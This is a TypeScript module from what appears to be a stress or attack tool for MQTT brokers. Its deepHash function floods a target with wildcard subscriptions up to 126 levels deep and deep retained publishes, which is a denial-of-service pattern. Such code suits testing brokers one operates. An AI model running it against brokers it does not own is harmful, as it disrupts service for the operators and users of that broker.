import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';
import { publish, subscribe } from './packets.ts';

/** Levels that are allowed by default. */
const LEVELS = 126;

/**
 * Subscribes to `#`, `+/#`, `+/+/#` and so on as deep as the broker lets it, and retains messages as deep as that, so
 * that every subscription walks all of them. An action is one packet.
 */
export function deepHash(target: AttackTarget, options: AttackOptions = {}): Attack {
  const assault = new Assault(target, planOf({ rate: 500, clients: 2 }, options));
  const { random, plan } = assault;
  return assault.crew((client) => {
    const depth = random.below(LEVELS);
    if (random.chance(30)) client.send(subscribe([`${'+/'.repeat(depth)}#`]));
    else client.send(publish(`${plan.name}${`/${random.below(4)}`.repeat(depth)}`, { retain: random.chance(50) }));
  });
}
